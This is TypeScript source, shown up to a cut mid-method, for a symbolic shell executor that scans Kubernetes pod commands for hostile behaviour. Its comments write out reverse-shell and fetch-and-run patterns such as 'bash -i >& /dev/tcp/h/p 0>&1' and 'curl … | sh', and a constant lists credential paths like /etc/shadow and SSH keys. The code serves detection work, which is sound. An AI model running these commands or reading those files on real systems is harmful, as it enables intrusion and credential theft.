/**
 * The shell model: runs a container's argv symbolically and records what it would do — every
 * program it starts (through launchers, functions, `eval`, nested shells, scripts written to
 * files, interpreters), every action (fetch, connect, listen, stdio, run, read, write, kube), and
 * the flows of content from its sources (the network, credentials, decoders) to its sinks
 * (execution, a send, the log).
 *
 * It reads syntax, never guesses from words: `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp…;
 * sh <&5 >&5`, `nc h p | sh`, the `mkfifo` loop and `socat tcp:h:p exec:sh` are one fact to it (a
 * shell whose input is a socket); `curl … | sh`, `sh <(curl …)`, `curl -o x …; chmod +x x; ./x` and
 * `tar x` of a download then running a file from it are another (fetched content executed).
 *
 * Bounded: nesting, programs run, loop unrolling, text sizes and a shared work budget; reaching a
 * bound is recorded in `limits`, which the scoring engine turns into a fail-closed finding.
 */
import type {
  Action,
  CodeAnalysis,
  CodeContext,
  Budget,
  ConnectAction,
  FetchAction,
  Language,
  Origin,
  StdioAction,
  Value,
} from './action.js';
import { classifyHost, parseUrl } from './address.js';
import {
  canonicalPath,
  credentialOfCommand,
  credentialOfPath,
  credentialOfUrl,
  type MountedCredential,
} from './credential.js';
import { decodeContent, type ShellEncoding } from './decode.js';
import { kubeActionOfCommand, kubeActionOfUrl } from './kubectl.js';
import type { Execution, Flow, Invocation, ObfuscationSign, Site } from './model.js';
import { DEFAULT_PARSE_OPTIONS, parseShell } from './parse.js';
import {
  CURL_VALUED,
  DEFAULT_PATH,
  FETCHERS,
  INTERPRETERS,
  KUBECTL_VALUED,
  LAUNCHERS,
  MULTICALL,
  NETCATS,
  NETCAT_VALUED,
  SHELL_VALUED,
  WGET_VALUED,
  hasOption,
  languageOf,
  optionValues,
  readOptions,
} from './programs.js';
import type { Command, Pipeline, Redirect, Script, SimpleCommand, Word, WordPart } from './syntax.js';
import { decodeEscapes } from './text.js';
import { EMPTY, MAX_VALUE_TEXT, concat, literal, mergeOrigins, unknown, withOrigins } from './value.js';

/** Reads inline code of an interpreter language into actions (see `code/`). */
export type CodeAnalyzer = (
  language: Exclude<Language, 'shell'>,
  code: string,
  context: CodeContext,
) => CodeAnalysis;

/** Bounds of one analysis; every one reached is a limit (fail closed). */
const EXECUTION_LIMITS = {
  /** `sh -c` in `sh -c`, `eval`, function calls, sourced files and interpreters, counted together. */
  maxDepth: 24,
  /** Programs recorded per pod template. */
  maxInvocations: 10_000,
  /** Words one `for` loop is unrolled over. */
  maxUnroll: 16,
  /** Fields one brace expansion produces. */
  maxBraceFields: 64,
};

/**
 * Work units the analysis of one object may spend, all its containers together (characters parsed,
 * programs run, code tokens and interpreter steps). A unit costs 0.2-0.8 µs of CPU (measured on
 * 420 KiB of shell, 470 KiB of Python statements, nested substitutions and eval loops), so the
 * worst object stops within about 300 ms of CPU on an idle core; the most any object of the test
 * corpus spends is 694 units, under a 500th of it. Reaching it is a limit: the object fails closed.
 */
export const DEFAULT_BUDGET = 400_000;

/** A stream a file descriptor points at. */
type Stream =
  | { readonly kind: 'socket'; readonly socket: number; readonly url: string; readonly listen: boolean }
  | { readonly kind: 'file'; readonly path: string }
  | { readonly kind: 'closed' };

/** A file the pod's programs wrote (shared by the pod's containers: init containers run first). */
interface FileEntry {
  content: Value;
  executable: boolean;
  steps: string[];
  fifo?: boolean;
  /** A directory a download was unpacked into: every path under it holds that content. */
  tree?: boolean;
  /** A copy of a program of the image (`cp $(which nc) /tmp/kworker`): running it runs that program. */
  program?: string;
}

/**
 * The names a process exports, shared copy-on-write with its children: most children export
 * nothing new, so a copy of the set for each one is wasted. Once shared, a set is not changed
 * again: whichever side adds a name first takes its own copy.
 */
class Names implements Iterable<string> {
  private shared = false;

  constructor(private names: Set<string>) {}

  add(name: string): void {
    if (this.shared) {
      this.names = new Set(this.names);
      this.shared = false;
    }
    this.names.add(name);
  }

  /** A copy for a child process (or a command's own environment). */
  fork(): Names {
    this.shared = true;
    const copy = new Names(this.names);
    copy.shared = true;
    return copy;
  }

  [Symbol.iterator](): Iterator<string> {
    return this.names[Symbol.iterator]();
  }
}

/**
 * A process's variables, shared copy-on-write like `Names`: a subshell or command substitution
 * starts with its parent's variables and most never assign one.
 */
class Variables {
  private shared = false;

  constructor(private values: Map<string, Value>) {}

  get(name: string): Value | undefined {
    return this.values.get(name);
  }

  has(name: string): boolean {
    return this.values.has(name);
  }

  set(name: string, value: Value): void {
    this.own().set(name, value);
  }

  delete(name: string): void {
    this.own().delete(name);
  }

  /** A copy for a subshell, a command substitution or a command's own environment. */
  fork(): Variables {
    this.shared = true;
    const copy = new Variables(this.values);
    copy.shared = true;
    return copy;
  }

  private own(): Map<string, Value> {
    if (this.shared) {
      this.values = new Map(this.values);
      this.shared = false;
    }
    return this.values;
  }
}

/** The state of one shell (or interpreter) process. */
interface Proc {
  vars: Variables;
  exported: Names;
  positional: Value[];
  arg0: Value;
  functions: Map<string, Command>;
  aliases: Map<string, string>;
  cwd: string | undefined;
  fds: ReadonlyMap<number, Stream>;
  depth: number;
  loop: boolean;
  site: Site;
  path: string;
  active: Set<string>;
  /** Launchers outside this process (`nohup sh -c …` → the inner commands carry `nohup`). */
  launchers: string[];
  /** Root directory after `chroot DIR`. */
  root?: string;
}

/** A word after expansion: its value and how it was assembled. */
interface Field {
  value: Value;
  /** Built from text parts quoted differently inside one name (`c'u'rl`). */
  split: boolean;
  /** Built from expansions (variables, substitutions, arithmetic). */
  expansions: number;
  /** Came from a brace expansion, `${IFS}` or ANSI-C escapes. */
  escaped: boolean;
  /** JSON path of the manifest field the word is (a container's own argv). */
  path?: string;
}

/** One simple command's I/O after its redirections. */
interface Io {
  stdin: Value | undefined;
  fds: ReadonlyMap<number, Stream>;
  redirects: { op: string; fd?: number; target: string }[];
  /** Where fd 1 goes when it is a file: written after the program runs. */
  outFile?: { path: string; append: boolean };
}

/** Files under which a packed directory holds credentials (probed when a whole directory is read). */
const CREDENTIAL_FILES = [
  '/token',
  '/serviceaccount/token',
  '/kubernetes.io/serviceaccount/token',
  '/secrets/kubernetes.io/serviceaccount/token',
  '/run/secrets/kubernetes.io/serviceaccount/token',
  '/kubelet-client-current.pem',
  '/pki/kubelet-client-current.pem',
  '/kubelet/pki/kubelet-client-current.pem',
  '/var/lib/kubelet/pki/kubelet-client-current.pem',
  '/admin.conf',
  '/kubernetes/admin.conf',
  '/etc/kubernetes/admin.conf',
  '/pki/ca.key',
  '/etc/kubernetes/pki/ca.key',
  '/shadow',
  '/etc/shadow',
  '/.ssh/id_rsa',
  '/root/.ssh/id_rsa',
];

/** How unknown content reads in a value's text: `«https://h/x»`, `«/path»`, `«stdin»`. */
const PLACEHOLDER = /«[^»]*»/g;

const SOCKET_URL = /^\/dev\/(tcp|udp)\/([^/]+)\/([^/]+)$/;
const DEFAULT_IFS = ' \t\n';

function isSocketPath(path: string): RegExpExecArray | null {
  return SOCKET_URL.exec(path);
}

function basename(text: string): string {
  const trimmed = text.endsWith('/') ? text.replace(/\/+$/, '') : text;
  return (trimmed.slice(trimmed.lastIndexOf('/') + 1) || trimmed).toLowerCase();
}

function short(text: string, max = 160): string {
  return text.length > max ? `${text.slice(0, max - 1)}…` : text;
}

/** Content a filter passes through (`cat`, `tr`, `sed`, `head`…): the input's origins, text unknown. */
const FILTERS = new Set([
  'cat',
  'tee',
  'head',
  'tail',
  'sed',
  'grep',
  'egrep',
  'fgrep',
  'cut',
  'sort',
  'uniq',
  'tr',
  'jq',
  'yq',
  'dd',
  'iconv',
  'fold',
  'col',
  'expand',
  'awk',
  'gawk',
  'mawk',
  'nawk',
  'perl',
  'envsubst',
  'strings',
  'base64',
  'basenc',
  'base32',
  'xxd',
  'od',
  'hexdump',
  'gzip',
  'zcat',
  'gunzip',
  'bzip2',
  'xz',
  'openssl',
  'rev',
  'tac',
  'nl',
  'paste',
  'xargs',
]);

/** How cron reads a file: a user table, a system table (a user field after the schedule), a script run as is. */
type CronTable = 'user' | 'system' | 'script';

/** `crontab`'s options that take a value (`-u user`). */
const CRONTAB_VALUED = new Set(['-u', '-c', '-s']);

/** The kind of cron table at a container path, if cron reads it. */
function cronTableAt(path: string): CronTable | undefined {
  if (/^\/etc\/crontab$|^\/etc\/cron\.d\/[^/]+$/.test(path)) return 'system';
  if (/^\/etc\/crontabs\/[^/]+$|^\/var\/spool\/cron\/(?:crontabs\/|tabs\/)?[^/]+$/.test(path)) return 'user';
  if (/^\/etc\/cron\.(?:hourly|daily|weekly|monthly)\/[^/]+$|^\/etc\/periodic\/[^/]+\/[^/]+$/.test(path))
    return 'script';
  return undefined;
}

/** The command of one cron table line: after the five schedule fields or `@reboot`/`@hourly`… (and the user). */
function cronCommand(line: string, system: boolean): string | undefined {
  const trimmed = line.trim();
  if (trimmed === '' || trimmed.startsWith('#') || /^[A-Za-z_][A-Za-z0-9_]*\s*=/.test(trimmed))
    return undefined;
  const match = /^(?:@[a-z]+|(?:\S+\s+){4}\S+)\s+(.*)$/.exec(trimmed);
  const rest = match?.[1];
  if (rest === undefined) return undefined;
  return system ? rest.replace(/^\S+\s+/, '') : rest;
}

/** Directories programs of an image live in. */
const PROGRAM_DIR = /^\/(?:usr\/)?(?:local\/)?s?bin\/([^/]+)$/;

/** Where `which X` and `command -v X` find a program: a path in the image's bin directories. */
function programPath(name: string): Value {
  return literal(name === '' || name.includes('/') ? name : `/usr/bin/${name}`);
}

/** A program of the image at a bin path, as a file entry (`cp /usr/bin/nc …` copies the program). */
function imageProgram(path: string): FileEntry | undefined {
  const name = PROGRAM_DIR.exec(path)?.[1];
  return name === undefined
    ? undefined
    : { content: EMPTY, executable: true, steps: [], program: name.toLowerCase() };
}

/** Names of a process's own standard input as a file. */
const STDIN_FILE = /^(?:\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/;

/** Programs that resolve the names they are given: each name is a query to its domain's name server. */
const RESOLVERS = new Set([
  'dig',
  'nslookup',
  'host',
  'drill',
  'kdig',
  'delv',
  'ping',
  'ping6',
  'getent',
  'resolvectl',
  'traceroute',
]);

/** Filters whose operands are input files (not a script or a set): their content passes through. */
const FILE_FILTERS = new Set([
  'head',
  'tail',
  'cut',
  'sort',
  'uniq',
  'iconv',
  'fold',
  'strings',
  'base64',
  'basenc',
  'base32',
  'xxd',
  'od',
  'hexdump',
  'gzip',
  'bzip2',
  'xz',
  'tac',
  'nl',
  'paste',
]);

/** Programs that only read and print (or do nothing) when they get no code: never a sink. */
const QUIET_BUILTINS = new Set([
  ':',
  'true',
  'false',
  'test',
  '[',
  '[[',
  'return',
  'exit',
  'break',
  'continue',
  'wait',
  'shopt',
  'umask',
  'ulimit',
  'hash',
  'type',
  'jobs',
  'disown',
  'let',
  'getopts',
  'pushd',
  'popd',
  'dirs',
  'times',
  'caller',
  'enable',
  'help',
  'logout',
  'suspend',
  'bind',
  'complete',
  'compgen',
  'history',
  'fc',
  'kill',
]);

/** The names `Executor.builtin` handles (its switch's cases): any other name is a program. */
const BUILTINS = new Set([
  'cd',
  'export',
  'declare',
  'typeset',
  'local',
  'readonly',
  'unset',
  'read',
  'eval',
  'source',
  '.',
  'exec',
  'set',
  'shift',
  'alias',
  'trap',
  'echo',
  'printf',
  'command',
  'builtin',
  'time',
]);

/**
 * A process's open descriptors before any redirection. Descriptor maps are read-only once built
 * (only `redirect` writes, into its own copy), so processes and commands share them.
 */
const NO_FDS: ReadonlyMap<number, Stream> = new Map();

/** Everything recorded for one pod template. */
class Recorder {
  readonly invocations: Invocation[] = [];
  readonly actions: Action[] = [];
  readonly flows: Flow[] = [];
  readonly obfuscation: ObfuscationSign[] = [];
  readonly scripts: string[] = [];
  scriptChars = 0;
  readonly limits: string[] = [];
  readonly problems: string[] = [];
  readonly flowKeys = new Set<string>();
  nextSocket = 0;

  limit(text: string): void {
    if (!this.limits.includes(text) && this.limits.length < 20) this.limits.push(text);
  }

  problem(text: string): void {
    if (!this.problems.includes(text) && this.problems.length < 20) this.problems.push(text);
  }

  /** Keeps a script text for `Execution.scripts`: at most 100 texts and 2 MiB in all, each once. */
  script(text: string): void {
    if (this.scripts.length >= 100 || this.scriptChars + text.length > 2 * 1024 * 1024) return;
    if (this.scripts.includes(text)) return;
    this.scripts.push(text);
    this.scriptChars += text.length;
  }
}

/** The pod-wide state: files written by earlier containers are there for later ones. */
export interface PodState {
  readonly files: Map<string, FileEntry>;
  /** hostPath mounts: a container path and the node path behind it. */
  readonly hostMounts: readonly { readonly mountPath: string; readonly hostPath: string }[];
  readonly budget: Budget;
  readonly mounts: readonly MountedCredential[];
  readonly analyze?: CodeAnalyzer;
}

export function newPodState(
  mounts: readonly MountedCredential[] = [],
  analyze?: CodeAnalyzer,
  hostMounts: PodState['hostMounts'] = [],
  budget: Budget = { left: DEFAULT_BUDGET },
): PodState {
  return {
    files: new Map(),
    hostMounts,
    budget,
    mounts,
    ...(analyze === undefined ? {} : { analyze }),
  };
}

/** One piece of code a container runs: its argv at a site (command, a hook, a probe). */
export interface Entry {
  readonly argv: readonly { readonly value: Value; readonly path: string }[];
  readonly site: Site;
  /** JSON path of the site (`…containers[0]`, `…lifecycle.postStart.exec.command`). */
  readonly path: string;
}

class LimitReached extends Error {}

/** The executor of one container. */
class Executor {
  readonly rec = new Recorder();
  /** Files with content written during this run (a fifo read before it is written needs a second pass). */
  fifoWritten = false;

  /** The container's environment, forked for each entry's first process. */
  private readonly envVars: Variables;
  private readonly envNames: Names;

  constructor(
    readonly pod: PodState,
    readonly env: ReadonlyMap<string, Value>,
  ) {
    this.envVars = new Variables(new Map(env));
    this.envNames = new Names(new Set(env.keys()));
  }

  // ---------------------------------------------------------------- budget and bounds

  charge(units: number): void {
    this.pod.budget.left -= units;
    if (this.pod.budget.left < 0) {
      this.rec.limit('analysis budget exhausted');
      throw new LimitReached();
    }
  }

  // ---------------------------------------------------------------- processes

  newProc(site: Site, path: string): Proc {
    return {
      vars: this.envVars.fork(),
      exported: this.envNames.fork(),
      positional: [],
      arg0: literal('sh'),
      functions: new Map(),
      aliases: new Map(),
      cwd: undefined,
      fds: NO_FDS,
      depth: 0,
      loop: false,
      site,
      path,
      active: new Set(),
      launchers: [],
    };
  }

  child(proc: Proc, options: { keepFunctions?: boolean; share?: boolean } = {}): Proc {
    if (options.share === true) return { ...proc, depth: proc.depth + 1 };
    const values = new Map<string, Value>();
    for (const name of proc.exported) {
      const value = proc.vars.get(name);
      if (value !== undefined) values.set(name, value);
    }
    return {
      ...proc,
      vars: new Variables(values),
      exported: proc.exported.fork(),
      positional: [],
      functions: options.keepFunctions === true ? proc.functions : new Map<string, Command>(),
      aliases: new Map(),
      fds: proc.fds,
      depth: proc.depth + 1,
      active: new Set(),
    };
  }

  deeper(proc: Proc): void {
    if (proc.depth + 1 > EXECUTION_LIMITS.maxDepth) {
      this.rec.limit(`nesting over ${EXECUTION_LIMITS.maxDepth} (sh -c, eval, functions, sourced files)`);
      throw new LimitReached();
    }
  }

  // ---------------------------------------------------------------- flows

  flow(
    value: Value,
    sink: Flow['sink'],
    by: string,
    proc: Proc,
    extra: { destination?: string; steps?: readonly string[] } = {},
  ): void {
    for (const source of value.origins)
      if (source.kind !== 'loop') this.flowFrom(source, sink, by, proc, extra);
  }

  flowFrom(
    source: Origin,
    sink: Flow['sink'],
    by: string,
    proc: Proc,
    extra: { destination?: string; steps?: readonly string[] } = {},
  ): void {
    const key = `${JSON.stringify(source)}|${sink}|${by}|${extra.destination ?? ''}|${proc.path}`;
    if (this.rec.flowKeys.has(key)) return;
    this.rec.flowKeys.add(key);
    const flow: Flow = {
      source,
      sink,
      steps: extra.steps ?? [],
      by,
      path: proc.path,
      loop: proc.loop,
      ...(extra.destination === undefined ? {} : { destination: extra.destination }),
    };
    this.rec.flows.push(flow);
  }

  sign(kind: ObfuscationSign['kind'], detail: string, proc: Proc): void {
    if (this.rec.obfuscation.length >= 50) return;
    if (this.rec.obfuscation.some((s) => s.kind === kind && s.detail === detail)) return;
    this.rec.obfuscation.push({ kind, detail: short(detail, 80), path: proc.path });
  }

  action<A extends Action>(action: A): A {
    if (this.rec.actions.length < 5_000) this.rec.actions.push(action);
    return action;
  }

  // ---------------------------------------------------------------- scripts

  /** Runs script text in `proc` (the caller made it a child when the shell is a new process). */
  runText(text: Value, proc: Proc, stdin: Value | undefined): Value {
    if (text.text.length >= MAX_VALUE_TEXT && !text.exact) this.rec.limit('script text over 1 MiB');
    this.charge(text.text.length);
    // Content the model does not know (a download, a socket) is a placeholder: nothing to read in it.
    const source = text.exact ? text.text : text.text.replace(PLACEHOLDER, ' ');
    if (source.trim() === '') return unknown(`$(sh)`);
    this.rec.script(source);
    const parsed = parseShell(source, DEFAULT_PARSE_OPTIONS);
    for (const limit of parsed.limits) this.rec.limit(limit);
    for (const problem of parsed.problems) this.rec.problem(problem);
    const output = this.runScript(parsed.script, proc, stdin);
    return output;
  }

  runScript(script: Script, proc: Proc, stdin: Value | undefined): Value {
    const outputs: Value[] = [];
    for (const item of script.items) {
      let out = this.runPipeline(item.first, proc, stdin);
      outputs.push(out);
      for (const next of item.rest) {
        // Both branches of `a || b` and `a && b` are taken: either may run.
        out = this.runPipeline(next.pipeline, proc, stdin);
        outputs.push(out);
      }
    }
    return concat(
      outputs.filter((o) => o.text !== '' || o.origins.length > 0),
      '',
    );
  }

  runPipeline(pipeline: Pipeline, proc: Proc, stdin: Value | undefined): Value {
    let input = stdin;
    let output: Value = EMPTY;
    const last = pipeline.commands.length - 1;
    pipeline.commands.forEach((command, k) => {
      // Every command of a pipeline but the last runs in a subshell; the last one may too.
      const own = k === last ? proc : { ...proc };
      output = this.runCommand(command, own, input);
      input = output;
    });
    return output;
  }

  runCommand(command: Command, proc: Proc, stdin: Value | undefined): Value {
    this.charge(1);
    switch (command.type) {
      case 'simple':
        return this.runSimple(command, proc, stdin);
      case 'function':
        proc.functions.set(command.name, command.body);
        return EMPTY;
      case 'subshell':
      case 'group': {
        const io = this.redirect(command.redirects, proc, stdin);
        const inner =
          command.type === 'subshell'
            ? { ...proc, vars: proc.vars.fork(), fds: io.fds }
            : { ...proc, fds: io.fds };
        const out = this.runScript(command.body, inner, io.stdin);
        return this.deliver(out, io, proc, command.type);
      }
      case 'if': {
        const io = this.redirect(command.redirects, proc, stdin);
        const inner = { ...proc, fds: io.fds };
        const outputs: Value[] = [];
        for (const clause of command.clauses) {
          outputs.push(this.runScript(clause.condition, inner, io.stdin));
          outputs.push(this.runScript(clause.body, inner, io.stdin));
        }
        if (command.otherwise !== undefined) outputs.push(this.runScript(command.otherwise, inner, io.stdin));
        return this.deliver(concat(outputs), io, proc, 'if');
      }
      case 'case': {
        const io = this.redirect(command.redirects, proc, stdin);
        const inner = { ...proc, fds: io.fds };
        const outputs = command.items.map((item) => this.runScript(item.body, inner, io.stdin));
        return this.deliver(concat(outputs), io, proc, 'case');
      }
      case 'test': {
        this.expandWords(command.words, proc);
        return EMPTY;
      }
      case 'loop':
        return this.runLoop(command, proc, stdin);
    }
  }

  runLoop(command: Extract<Command, { type: 'loop' }>, proc: Proc, stdin: Value | undefined): Value {
    const io = this.redirect(command.redirects, proc, stdin);
    const inner: Proc = { ...proc, fds: io.fds, loop: true };
    const outputs: Value[] = [];
    if (command.keyword === 'for' || command.keyword === 'select') {
      const name = command.variable ?? '_';
      const fields =
        command.words === undefined
          ? proc.positional
          : this.expandWords(command.words, inner).map((f) => f.value);
      const exact = fields.every((f) => f.exact) && fields.length <= EXECUTION_LIMITS.maxUnroll;
      if (exact && fields.length > 0) {
        for (const value of fields) {
          inner.vars.set(
            name,
            fields.length > 1 ? withOrigins(value, [{ kind: 'loop', variable: name }]) : value,
          );
          outputs.push(this.runScript(command.body, inner, io.stdin));
        }
      } else {
        inner.vars.set(
          name,
          unknown(
            `$${name}`,
            mergeOrigins(
              [{ kind: 'loop', variable: name }],
              fields.flatMap((f) => f.origins),
            ),
          ),
        );
        outputs.push(this.runScript(command.body, inner, io.stdin));
      }
    } else {
      if (command.condition !== undefined) outputs.push(this.runScript(command.condition, inner, io.stdin));
      outputs.push(this.runScript(command.body, inner, io.stdin));
    }
    return this.deliver(concat(outputs), io, proc, command.keyword);
  }

  // ---------------------------------------------------------------- expansion

  param(name: string, proc: Proc): Value {
    if (/^\d+$/.test(name)) {
      const n = Number(name);
      if (n === 0) return proc.arg0;
      return proc.positional[n - 1] ?? literal('');
    }
    if (name === '@' || name === '*') return concat(proc.positional, ' ');
    if (name === '#') return literal(String(proc.positional.length));
    if (name === '?' || name === '$' || name === '!' || name === '-' || name === 'RANDOM')
      return unknown(`$${name}`);
    if (name === 'IFS') return proc.vars.get('IFS') ?? literal(DEFAULT_IFS);
    if (name === 'PWD')
      return proc.vars.get('PWD') ?? (proc.cwd === undefined ? unknown('$PWD') : literal(proc.cwd));
    const value = proc.vars.get(name);
    if (value !== undefined) return value;
    if (name === 'HOME') return literal('/root');
    if (
      name === 'KUBERNETES_SERVICE_HOST' ||
      name === 'KUBERNETES_SERVICE_PORT' ||
      name === 'KUBERNETES_PORT_443_TCP_ADDR'
    )
      return unknown(`$${name}`);
    return unknown(`$${name}`, [{ kind: 'env', name }]);
  }

  /** `${name op word}` when the value is known exactly; otherwise the value kept as written. */
  paramOp(part: Extract<WordPart, { type: 'param' }>, proc: Proc): Value {
    const name = part.name;
    const op = part.op;
    if (op === undefined) return this.param(name, proc);
    const arg = (): Value =>
      part.word === undefined ? EMPTY : concat(this.expandWord(part.word, proc, false).map((f) => f.value));
    if (op === '#len') {
      const value = this.param(name, proc);
      return value.exact ? literal(String(value.text.length)) : unknown(`\${#${name}}`);
    }
    if (op === '!') {
      const target = this.param(name, proc);
      return target.exact ? this.param(target.text, proc) : unknown(`\${!${name}}`, target.origins);
    }
    const value = this.param(name, proc);
    const isSet = proc.vars.has(name) || (/^\d+$/.test(name) && proc.positional.length >= Number(name));
    switch (op) {
      case '-':
      case ':-':
      case '=':
      case ':=': {
        const empty = !isSet || (op.startsWith(':') && value.exact && value.text === '');
        if (empty) {
          const fallback = arg();
          if (op.endsWith('=')) proc.vars.set(name, fallback);
          return fallback;
        }
        return value;
      }
      case '+':
      case ':+':
        return isSet ? arg() : EMPTY;
      case '?':
      case ':?':
        return value;
    }
    if (!value.exact) return unknown(`\${${name}${op}…}`, value.origins);
    const pattern = arg();
    if (!pattern.exact) return unknown(`\${${name}${op}…}`, mergeOrigins(value.origins, pattern.origins));
    const text = value.text;
    const glob = (p: string, anchored: 'start' | 'end', greedy: boolean): string => {
      const regex = p
        .replace(/[.+^${}()|[\]\\]/g, '\\$&')
        .replace(/\*/g, greedy ? '.*' : '.*?')
        .replace(/\?/g, '.');
      const re = new RegExp(anchored === 'start' ? `^${regex}` : `${regex}$`, 's');
      if (anchored === 'end' && !greedy) {
        for (let i = text.length; i >= 0; i--)
          if (re.test(text.slice(i)) && new RegExp(`^${regex}$`, 's').test(text.slice(i)))
            return text.slice(0, i);
        return text;
      }
      if (anchored === 'end') {
        for (let i = 0; i <= text.length; i++)
          if (new RegExp(`^${regex}$`, 's').test(text.slice(i))) return text.slice(0, i);
        return text;
      }
      const match = re.exec(text);
      return match === null ? text : text.slice(match[0].length);
    };
    switch (op) {
      case '#':
        return withOrigins(literal(glob(pattern.text, 'start', false)), value.origins);
      case '##':
        return withOrigins(literal(glob(pattern.text, 'start', true)), value.origins);
      case '%':
        return withOrigins(literal(glob(pattern.text, 'end', false)), value.origins);
      case '%%':
        return withOrigins(literal(glob(pattern.text, 'end', true)), value.origins);
      case '^^':
        return withOrigins(literal(text.toUpperCase()), value.origins);
      case ',,':
        return withOrigins(literal(text.toLowerCase()), value.origins);
      case '^':
        return withOrigins(literal(text.charAt(0).toUpperCase() + text.slice(1)), value.origins);
      case ',':
        return withOrigins(literal(text.charAt(0).toLowerCase() + text.slice(1)), value.origins);
      case '/':
      case '//': {
        const [from, to] = splitReplacement(pattern.text);
        const replaced =
          from === '' ? text : op === '//' ? text.split(from).join(to) : text.replace(from, to);
        return withOrigins(literal(replaced), value.origins);
      }
      case ':': {
        const [offset = '0', length] = pattern.text.split(':');
        const start = Number(offset.trim());
        if (!Number.isFinite(start)) return unknown(`\${${name}:…}`, value.origins);
        const from = start < 0 ? Math.max(0, text.length + start) : start;
        const len = length === undefined ? undefined : Number(length.trim());
        const piece =
          len === undefined || !Number.isFinite(len) ? text.slice(from) : text.slice(from, from + len);
        return withOrigins(literal(piece), value.origins);
      }
    }
    return unknown(`\${${name}${op}…}`, value.origins);
  }

  /** Expands one word into fields (field splitting of unquoted expansions, brace expansion). */
  expandWord(word: Word, proc: Proc, split = true): Field[] {
    // Most words are one piece of plain text: one field, nothing to split or brace-expand.
    const only = word.parts.length === 1 ? word.parts[0] : undefined;
    if (only?.type === 'text' && (!split || only.quoted || !only.text.includes('{')))
      return [{ value: literal(only.text), split: false, expansions: 0, escaped: false }];
    // Pieces of the word: text with a flag whether it may split (unquoted expansion result).
    const pieces: { value: Value; splittable: boolean; quoted: boolean; kind: WordPart['type'] }[] = [];
    let expansions = 0;
    let escaped = false;
    for (const part of word.parts) {
      switch (part.type) {
        case 'text':
          pieces.push({ value: literal(part.text), splittable: false, quoted: part.quoted, kind: 'text' });
          break;
        case 'param': {
          expansions++;
          if (part.name === 'IFS' && !part.quoted) escaped = true;
          const value = this.paramOp(part, proc);
          pieces.push({ value, splittable: !part.quoted, quoted: part.quoted, kind: 'param' });
          break;
        }
        case 'command': {
          expansions++;
          this.deeper(proc);
          const out = this.runScript(
            part.script,
            { ...proc, depth: proc.depth + 1, vars: proc.vars.fork() },
            undefined,
          );
          const trimmed = out.exact ? literal(out.text.replace(/\n+$/, '')) : out;
          pieces.push({
            value: withOrigins(trimmed, out.origins),
            splittable: !part.quoted,
            quoted: part.quoted,
            kind: 'command',
          });
          break;
        }
        case 'process': {
          expansions++;
          const path = `/dev/fd/${63 - (this.rec.invocations.length % 40)}`;
          if (part.direction === '<') {
            this.deeper(proc);
            const out = this.runScript(
              part.script,
              { ...proc, depth: proc.depth + 1, vars: proc.vars.fork() },
              undefined,
            );
            this.pod.files.set(path, { content: out, executable: false, steps: [] });
          } else {
            // `>(cmd)`: cmd reads what the command writes; modelled as reading its input.
            this.pod.files.set(path, { content: EMPTY, executable: false, steps: [], fifo: true });
            this.pendingWriters.push({ path, script: part.script, proc });
          }
          pieces.push({ value: literal(path), splittable: false, quoted: true, kind: 'process' });
          break;
        }
        case 'arithmetic':
          expansions++;
          pieces.push({
            value: arithmetic(part.text, proc),
            splittable: !part.quoted,
            quoted: part.quoted,
            kind: 'arithmetic',
          });
          break;
      }
    }
    const textParts = word.parts.filter((p) => p.type === 'text');
    const isSplitName =
      word.parts.length > 1 &&
      textParts.length === word.parts.length &&
      new Set(textParts.map((p) => p.quoted)).size > 1 &&
      !textParts.some((p) => p.text.includes('/'));
    if (!split) {
      return [{ value: concat(pieces.map((p) => p.value)), split: isSplitName, expansions, escaped }];
    }
    // Field splitting of unquoted expansions.
    const ifsValue = proc.vars.get('IFS');
    const ifs = ifsValue?.exact === true ? ifsValue.text : DEFAULT_IFS;
    const fields: Value[][] = [[]];
    let touched = false;
    for (const piece of pieces) {
      if (!piece.splittable || ifs === '' || !piece.value.exact) {
        fields[fields.length - 1]?.push(piece.value);
        touched = true;
        continue;
      }
      const chunks = splitIfs(piece.value.text, ifs);
      chunks.forEach((chunk, k) => {
        if (k > 0) fields.push([]);
        if (chunk !== '') {
          fields[fields.length - 1]?.push(withOrigins(literal(chunk), piece.value.origins));
          touched = true;
        }
      });
      if (chunks.length > 1 && piece.kind === 'param' && pieces.length > 1)
        escaped = escaped || ifs !== DEFAULT_IFS;
    }
    const values = fields
      .filter((f, k) => f.length > 0 || (k === 0 && !touched && pieces.some((p) => p.quoted)))
      .map((f) => concat(f));
    const allQuotedEmpty = values.length === 0 && pieces.some((p) => p.quoted);
    const result = allQuotedEmpty ? [EMPTY] : values;
    // Brace expansion of a literal, unquoted word: `{curl,-s,http://x}` → three words.
    if (result.length === 1 && pieces.length === 1 && pieces[0]?.kind === 'text' && !pieces[0].quoted) {
      const braced = braceExpand(result[0]?.text ?? '');
      if (braced.length > 1) {
        if (braced.length > EXECUTION_LIMITS.maxBraceFields) this.rec.limit('brace expansion over 64 words');
        return braced
          .slice(0, EXECUTION_LIMITS.maxBraceFields)
          .map((text) => ({ value: literal(text), split: false, expansions: 0, escaped: true }));
      }
      // A sequence too long to unroll (`10.0.0.{1..254}`): one word that stands for many.
      if (/\{-?\d+\.\.-?\d+\}/.test(result[0]?.text ?? '')) {
        const text = result[0]?.text ?? '';
        return [
          {
            value: unknown(text, [{ kind: 'loop', variable: text }]),
            split: false,
            expansions: 1,
            escaped: false,
          },
        ];
      }
    }
    return result.map((value) => ({ value, split: isSplitName, expansions, escaped }));
  }

  expandWords(words: readonly Word[], proc: Proc): Field[] {
    const out: Field[] = [];
    for (const word of words) out.push(...this.expandWord(word, proc));
    return out;
  }

  /** Writers of `>(…)` substitutions, run after the command that writes to them. */
  pendingWriters: { path: string; script: Script; proc: Proc }[] = [];

  // ---------------------------------------------------------------- redirections

  openSocket(match: RegExpExecArray, proc: Proc, detail: string, origins: readonly Origin[] = []): Stream {
    const protocol = match[1] === 'udp' ? 'udp' : 'tcp';
    const socket = this.rec.nextSocket++;
    const host = match[2] ?? '';
    const port = match[3] ?? '';
    this.action<ConnectAction>({
      type: 'connect',
      path: proc.path,
      loop: proc.loop,
      detail: short(detail),
      socket,
      host: literalOrUnknown(host, origins),
      port: literalOrUnknown(port, origins),
      protocol,
      sends: [],
    });
    return { kind: 'socket', socket, url: `${protocol}://${host}:${port}`, listen: false };
  }

  readFile(path: string, proc: Proc, by: string): Value {
    const stream = isSocketPath(path);
    if (stream !== null) {
